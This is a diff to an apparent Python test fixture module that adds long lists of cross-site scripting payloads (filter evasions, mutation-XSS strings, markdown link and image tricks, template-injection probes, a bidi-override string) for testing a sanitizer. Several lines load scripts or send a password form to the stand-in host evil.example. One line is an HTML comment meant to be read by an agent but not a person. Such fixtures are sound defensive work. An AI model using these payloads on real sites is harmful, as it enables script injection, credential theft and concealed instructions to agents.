@@ -42,6 +42,59 @@ RAW_HTML = (
     "<?php echo '<script>alert(1)</script>' ?>",
     "<img id=content><form id=q name=search><input name=action></form>",
 )
+EVASIONS = (
+    "<script/src=//evil.example/xss.js></script>",
+    "<<SCRIPT>alert(1);//<</SCRIPT>",
+    "<SCR\0IPT>alert(1)</SCR\0IPT>".replace("\0", "&#0;"),
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<IMG SRC=javascript:alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
+    "<IMG SRC=# onmouseover=alert(1)>",
+    "<IMG SRC=/ onerror=alert(1)></img>",
+    "<img src=x onerror=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>",
+    '<IMG SRC=" &#14; javascript:alert(1);">',
+    '<IMG DYNSRC="javascript:alert(1)">',
+    '<img/src=x/onerror=alert(1)//">',
+    '<svg><script xlink:href="data:,alert(1)"/></svg>',
+    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>click</text></a></svg>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4#x'/>",
+    "<BODY BACKGROUND='javascript:alert(1)'>",
+    "<body onpageshow=alert(1)>",
+    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
+    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
+    "<style>body{background:url('https://evil.example/x')}</style>",
+    '<div style="background-image:url(https://evil.example/x)">styled</div>',
+    "<div style='position:fixed;inset:0;z-index:99999'>covers all</div>",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<FRAMESET><FRAME SRC='javascript:alert(1);'></FRAMESET>",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/s.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+    "<form action='javascript:alert(1)'><input type=submit></form>",
+    "<form action='https://evil.example/'><input name=password autofocus></form>",
+    "<button formaction=javascript:alert(1)>press</button>",
+    "<select autofocus onfocus=alert(1)>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video><source onerror='alert(1)'>",
+    "<audio autoplay src=https://evil.example/a.mp3>",
+    "<marquee onstart=alert(1)>",
+    "<math href='javascript:alert(1)'>click</math>",
+    "<a href='javascript:alert(1)' autofocus>raw link</a>",
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">raw data</a>',
+    "<p hx-get='/healthz' hx-trigger='load' hx-on::load='alert(1)'>htmx</p>",
+    "<p data-live='/api/v1/skills/stream' data-live-fragment='https://evil.example/'>live</p>",
+    "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "<x contenteditable onblur=alert(1)>lose focus</x>",
+    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}}",
+    "\\<script>alert(1)</script>",
+)
 MUTATIONS = (
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -63,6 +116,25 @@ MUTATIONS = (
     "<p/<img/src=x/onerror=alert(1)>",
     "<b><p><i></b><script>alert(1)</script></i></p>",
     "*a **b <script>alert(1)</script> c* d**",
+    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
+    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style></h1>",
+    "<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title='&lt;/style>&lt;img src onerror=alert(1)>'>",
+    "<table><caption><svg><title><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<select><iframe><select><img src=x onerror=alert(1)>",
+    "<svg><foreignObject><p><style><!--</style><a title='--><img src=x onerror=alert(1)>'>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
+    "<title><p title='</title><img src=x onerror=alert(1)>'>",
+    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
+    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
+    "<plaintext><p title='</plaintext><img src=x onerror=alert(1)>'>",
+    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
+    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
+    "<img alt='`' src='x` onerror=alert(1)'>",
+    "<div id='\x01'><!-- --!><img src=x onerror=alert(1)> -->",
+    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo '<script>alert(1)</script>' ?>",
+    "<p></p foo='><img src=x onerror=alert(1)>'>",
+    "<a href='x' title='\u2028<img src=x onerror=alert(1)>'>separators</a>",
 )
 LINKS = (
     "[x](javascript:alert(1))",
@@ -104,9 +176,29 @@ PICTURES = (
     "[![x](https://evil.example/a.png)](javascript:alert(1))",
     "![x](assets/logo.svg)",
 )
-HOSTILE = (*RAW_HTML, *MUTATIONS, *LINKS, *PICTURES)
+PLACES = (
+    "[a](&#106;avascript:alert(1))",
+    "![a](https://evil.example/tracker.png)",
+    "![a](//evil.example/tracker.png)",
+    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
+    "<https://example.org/?q='><script>alert(1)</script>>",
+    "[![nested](https://evil.example/t.png)](javascript:alert(1))",
+    "# heading {onclick=alert(1)} <img src=x onerror=alert(1)>",
+    '```" onclick=alert(1)\ncode\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [c](javascript:alert(1)) |",
+    "> <svg/onload=alert(1)>",
+    "- <details open ontoggle=alert(1)>",
+    "Term\n: <script>alert(1)</script>",
+    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
+    "<!-- a comment that an agent reads and a person does not -->",
+    "\u202e<tpircs>(1)trela\u202c",
+)
+"""Markdown's own places, with something in them that does not belong there."""
+KINDS = {"html": (*RAW_HTML, *EVASIONS), "mutations": MUTATIONS, "markdown": (*LINKS, *PICTURES, *PLACES)}
+HOSTILE = tuple(text for texts in KINDS.values() for text in texts)
 
 
-def hostile_document() -> str:
+def hostile_document(texts: tuple[str, ...] = HOSTILE) -> str:
     """All of them in one text, each in a paragraph of its own."""
-    return "\n\n".join(f"{number}.\n\n{text}\n" for number, text in enumerate(HOSTILE, 1))
+    return "\n\n".join(f"{number}.\n\n{text}\n" for number, text in enumerate(texts, 1))
